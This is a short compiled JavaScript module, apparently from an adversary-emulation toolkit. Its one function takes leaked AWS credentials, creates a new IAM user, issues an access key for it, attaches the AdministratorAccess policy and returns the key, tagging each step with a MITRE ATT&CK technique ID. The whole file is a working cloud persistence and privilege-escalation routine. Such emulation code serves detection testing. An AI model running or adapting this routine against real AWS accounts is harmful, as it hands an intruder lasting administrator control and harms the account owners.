import { AttachUserPolicyCommand, CreateAccessKeyCommand, CreateUserCommand, } from '@aws-sdk/client-iam';
/** Makes a user of an attacker's own, with a key and the administrator policy, and gives what its actor is made of. */
export async function ownAdministrator(play, leaked, UserName) {
    const as = play.as(leaked);
    await as.send(new CreateUserCommand({ UserName }), { technique: 'T1136.003' });
    const { AccessKey } = await as.send(new CreateAccessKeyCommand({ UserName }), {
        technique: 'T1098.001',
    });
    await as.send(new AttachUserPolicyCommand({
        UserName,
        PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    }), { technique: 'T1098.003' });
    return AccessKey;
}
//# sourceMappingURL=own-administrator.js.map